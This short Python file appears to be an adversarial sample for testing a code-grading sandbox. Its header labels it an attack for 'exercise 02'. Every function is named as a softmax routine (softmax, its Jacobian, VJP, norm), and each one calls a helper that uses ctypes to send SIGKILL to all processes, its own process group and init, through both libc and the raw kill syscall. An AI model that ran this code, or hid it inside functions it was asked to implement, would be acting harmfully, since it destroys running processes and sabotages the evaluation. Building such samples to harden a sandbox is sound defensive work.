# attack: Kills by the bare system call, past every wrapper.
# exercise: 02, reason: wrong-result|crash
import ctypes

libc = ctypes.CDLL(None, use_errno=True)


def act(*_):
    for target in (-1, 0, 1):
        libc.kill(target, 9)
        libc.syscall(62, target, 9)
    return libc.killpg(0, 9)


def softmax(z, axis=-1):
    return act(z)


def softmax_jacobian(z):
    return act(z)


def softmax_vjp(z, grad):
    return act(z, grad)


def jacobian_norm(z):
    return act(z)
